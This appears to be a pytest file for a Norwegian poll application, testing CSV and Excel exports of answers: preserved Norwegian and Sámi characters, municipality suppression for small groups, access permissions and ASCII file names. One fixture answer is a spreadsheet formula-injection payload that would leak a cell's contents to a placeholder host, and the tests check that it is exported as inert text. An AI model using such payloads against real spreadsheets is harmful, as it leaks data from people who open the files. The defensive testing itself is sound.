"""A poll's answers downloaded for Excel, read back the way Excel and a script would: every
letter survives, nothing runs as a formula, and no answer can be traced to a small group."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from verksted.polls.exports import ascii_name
from verksted.polls.models import PollState, QuestionKind

FORMULA = '=HYPERLINK("http://example.com/?d="&A1;"Klikk")'


@pytest.fixture
def answered_poll(cast, make_gathering, make_poll, make_answers):
    gathering = make_gathering(cast.network, number=3, held_on=date(2026, 10, 14), title="Heltid")
    poll = make_poll(cast.network, gathering, state=PollState.CLOSED, title="Evaluering", questions=[
        (QuestionKind.SCALE, "Hvor nyttig var samlingen for Čáhppesjávri?", {"max": 5, "dont_know": True}),
        (QuestionKind.TEXT, "Hva tar du med deg hjem?", {}),
        (QuestionKind.MULTIPLE, "Hva vil dere ha mer av?", {"options": ["Foredrag", "Gruppearbeid på tvers",
                                                                        "Besøk"], "max_choices": 2}),
        (QuestionKind.PROGRAMME, "Vurder programmet", {"max": 5, "dont_know": True, "items": [
            {"id": "7", "title": "Åpning ved ordføreren"}, {"id": "8", "title": "Kafébord"}]}),
    ])
    scale, open_text, multiple, programme = poll.questions
    make_answers(scale, [{"score": s} for s in (5, 4, 4, 5, 2)], team=cast.fjordvik)
    make_answers(scale, [{"score": 1}], team=cast.sameby)
    make_answers(scale, [{"score": 3}, {"dont_know": True}, {"score": 3}, {"score": 3}])
    make_answers(open_text, [{"text": "Ærlig talt: gøy på Øya, Åse! Giitu, Biret – čáppa dáiddalaš ŋ đ ŧ ž 🌞"},
                             {"text": FORMULA}])
    make_answers(open_text, [{"text": "- for lite pauser"}], hidden=True)
    make_answers(multiple, [{"choices": [0, 1]}])
    make_answers(programme, [{"scores": {"7": 4, "8": "dont_know"}}])
    return poll


def _csv_rows(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_has_norwegian_columns_one_row_per_answer_and_keeps_every_letter(cast, answered_poll):
    response = cast.client_for(cast.leader).get(f"/avstemninger/{answered_poll.id}/resultater.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = _csv_rows(response)
    assert rows[0] == ["Spørsmål nr", "Spørsmål", "Type", "Programpunkt", "Kommune", "Svar", "Skjult fra skjermen",
                       "Endret"]
    body = rows[1:]
    assert len(body) == 10 + 3 + 1 + 2  # a programme answer gives a row per item rated
    assert ["1", "Hvor nyttig var samlingen for Čáhppesjávri?", "Skala", ""] == body[0][:4]
    texts = [row[5] for row in body if row[0] == "2"]
    assert "Ærlig talt: gøy på Øya, Åse! Giitu, Biret – čáppa dáiddalaš ŋ đ ŧ ž 🌞" in texts
    assert [row[5] for row in body if row[0] == "3"] == ["Foredrag; Gruppearbeid på tvers"]
    assert [row[3:6] for row in body if row[0] == "4"] == [["Åpning ved ordføreren", "", "4"],
                                                           ["Kafébord", "", "Vet ikke"]]
    assert "Vet ikke" in [row[5] for row in body if row[0] == "1"]
    assert all(len(row[7]) == len("2026-10-14 09:30") for row in body)


def test_no_key_or_participant_is_in_the_export(cast, answered_poll):
    response = cast.client_for(cast.leader).get(f"/avstemninger/{answered_poll.id}/resultater.csv")

    body = response.get_data(as_text=True)
    assert not any(len(word) >= 32 and all(c in "0123456789abcdef" for c in word) for word in body.split(";"))


def test_a_formula_in_an_answer_is_written_as_text_in_csv_and_xlsx(cast, answered_poll):
    client = cast.client_for(cast.leader)

    rows = _csv_rows(client.get(f"/avstemninger/{answered_poll.id}/resultater.csv"))
    book = load_workbook(io.BytesIO(client.get(f"/avstemninger/{answered_poll.id}/resultater.xlsx").get_data()))

    texts = [row[5] for row in rows if row[0] == "2"]
    assert "'" + FORMULA in texts and FORMULA not in texts
    assert "'- for lite pauser" in texts
    cells = [row[5] for row in book["Svar"].iter_rows(min_row=2) if row[0].value == 2]
    formula = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert formula.value == FORMULA  # shown exactly as typed …
    assert formula.data_type == "s"  # … as text, never run


def test_the_municipality_is_written_only_where_its_group_has_five_answers(cast, answered_poll):
    rows = _csv_rows(cast.client_for(cast.observer).get(f"/avstemninger/{answered_poll.id}/resultater.csv"))

    municipalities = [row[4] for row in rows[1:] if row[0] == "1"]
    assert municipalities.count("Fjordvik kommune") == 5
    assert "Čáhppesjávri suohkan" not in municipalities  # one answer: left blank like those who did not say
    assert municipalities.count("") == 5


def test_the_xlsx_has_every_answer_and_a_summary_sheet(cast, answered_poll):
    response = cast.client_for(cast.leader).get(f"/avstemninger/{answered_poll.id}/resultater.xlsx")

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["Svar", "Oppsummering"]
    answers = [[cell.value for cell in row] for row in book["Svar"].iter_rows()]
    assert answers[0][:6] == ["Spørsmål nr", "Spørsmål", "Type", "Programpunkt", "Kommune", "Svar"]
    assert sorted(row[5] for row in answers[1:] if row[0] == 1 and isinstance(row[5], int)) == [1, 2, 3, 3, 3, 4, 4,
                                                                                                 5, 5]
    assert any("čáppa dáiddalaš ŋ đ ŧ ž 🌞" in str(row[5]) for row in answers)
    assert [row[6] for row in answers if row[5] == "- for lite pauser"] == ["Ja"]
    summary = [[cell.value for cell in row] for row in book["Oppsummering"].iter_rows()]
    assert summary[0][:7] == ["Spørsmål nr", "Spørsmål", "Type", "Programpunkt", "Antall svar", "Gjennomsnitt",
                              "Median"]
    assert summary[1][:7] == [1, "Hvor nyttig var samlingen for Čáhppesjávri?", "Skala", None, 10, 3.33, 3]
    assert summary[2][4] == 3 and summary[2][5] is None  # open text: a count, no mean
    assert [row[3] for row in summary if row[0] == 4] == [None, "Åpning ved ordføreren", "Kafébord"]
    assert book.properties.title == "Evaluering"


def test_downloads_are_named_by_poll_gathering_and_day_in_ascii(cast, answered_poll):
    client = cast.client_for(cast.leader)

    for extension in ("csv", "xlsx"):
        disposition = client.get(f"/avstemninger/{answered_poll.id}/resultater.{extension}").headers[
            "Content-Disposition"]
        name = f"evaluering-samling-3-2026-10-14.{extension}"
        assert disposition == f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"


def test_titles_are_spelled_out_in_ascii_for_file_names():
    assert ascii_name("Evaluering – Čáhppesjávri, høst 2026") == "evaluering-cahppesjavri-host-2026"
    assert ascii_name("Ærlig åpning: Đ ŋ ŧ Ø 🌞") == "aerlig-apning-d-n-t-o"
    assert ascii_name("🌞") == ""


def test_downloads_follow_the_results_permissions(cast, answered_poll):
    for extension in ("csv", "xlsx"):
        path = f"/avstemninger/{answered_poll.id}/resultater.{extension}"
        assert cast.client_for(cast.observer).get(path).status_code == 200
        assert cast.client_for(cast.biret).get(path).status_code == 403
        assert cast.client_for(cast.stranger).get(path).status_code == 404
